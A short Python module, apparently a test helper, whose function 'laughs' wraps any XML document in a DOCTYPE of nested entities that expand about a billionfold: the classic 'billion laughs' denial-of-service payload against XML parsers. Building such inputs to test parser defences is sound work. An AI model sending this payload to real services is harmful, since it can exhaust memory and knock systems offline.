"""XML that asks for more than it seems."""

import re


def laughs(document: str) -> str:
    """Give the document with entities that grow a thousand millionfold; ``&h;`` is the largest."""
    entities = [f'<!ENTITY {name} "{f"&{before};" * 1000}">' for before, name in zip("efg", "fgh", strict=True)]
    return f'<!DOCTYPE a [<!ENTITY e "lol">{"".join(entities)}]>' + re.sub(r"^<\?xml.*?\?>", "", document)
